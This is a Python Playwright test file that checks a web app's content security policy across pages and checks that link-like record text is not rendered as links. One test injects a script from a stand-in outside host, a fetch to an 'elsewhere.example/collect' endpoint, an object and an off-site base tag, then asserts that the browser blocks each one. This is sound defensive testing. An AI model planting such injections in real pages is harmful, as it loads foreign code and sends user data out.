"""Under the content security policy every page draws what it drew, and what it forbids does not happen."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from lib.access.actors import OWN_MACHINE
from lib.actions.records.saving import save
from lib.store.database import Database
from lib.store.opening import Store
from lib.ui.frame.registry import PAGES
from tests.browser.conftest import Seeded, Visit
from tests.browser.servers import Server, serving

LAUNCHER = "lib/web/launcher.py"
LINKS = "http://one.example https://two.example/x www.three.example four@five.example HTTPS://SIX.example"


@pytest.fixture(scope="module", params=[LAUNCHER, "Home.py"])
def server(seeded: Seeded, request: pytest.FixtureRequest) -> Iterator[Server]:
    """A server with a record that is called like links."""
    folder = seeded()
    store = Store("own", Database(f"sqlite:///{folder}/own.sqlite"), folder / "backups")
    save(store, OWN_MACHINE, "organisation", {"name": LINKS, "type": "group", "note": LINKS})
    store.database.close()
    with serving(folder, script=request.param, THUN_MAP_ASSETS="drawn") as served:
        yield served


def violations(page: Page) -> list[str]:
    """What the browser refuses because of the policy, from now on."""
    refused: list[str] = []
    page.on("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)
    return refused


def test_no_page_asks_for_what_the_policy_refuses(server: Server, visit: Visit, request: pytest.FixtureRequest) -> None:
    visitor = visit(server)
    refused = violations(visitor.page)
    # The other way of starting makes the same app: a page with charts and the one with the map will do.
    first = request.node.callspec.params["server"] == LAUNCHER
    for page in [p for p in PAGES if first or p.id in ("overview", "centres")]:
        visitor.open(page.id, world="practice")
        visitor.sees_title(page.th)
        visitor.settled()
    assert refused == []
    visitor.open("progress", world="practice")
    expect(
        visitor.page.locator("[data-testid='stVegaLiteChart'] svg, [data-testid='stVegaLiteChart'] canvas").first
    ).to_be_visible()


def test_a_script_of_another_host_and_an_object_do_not_run(server: Server, visit: Visit) -> None:
    visitor = visit(server).open()
    answer: Any = visitor.page.evaluate(
        """() => new Promise((done) => {
            const seen = [];
            document.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
            const script = document.createElement("script");
            script.src = "https://elsewhere.example/x.js";
            document.head.append(script);
            fetch("https://elsewhere.example/collect").catch(() => 0);
            const thing = document.createElement("object");
            thing.data = "/app/static/x.swf";
            document.body.append(thing);
            const base = document.createElement("base");
            base.href = "https://elsewhere.example/";
            document.head.append(base);
            setTimeout(() => done(seen), 1500);
        })"""
    )
    # Asked for by this test, refused by the browser: no visitor's window does it by itself.
    visitor.asked.clear()
    assert {"script-src-elem", "connect-src", "object-src", "base-uri"} <= set(answer)


def test_an_address_in_a_text_is_no_link(server: Server, visit: Visit) -> None:
    visitor = visit(server).open("records", kind="organisation")
    visitor.sees("one.example")
    visitor.page.get_by_role("button", name="one.example").click()
    expect(visitor.main.get_by_role("heading", name="two.example")).to_be_visible()
    assert visitor.page.locator("a[href*='.example' i]").count() == 0
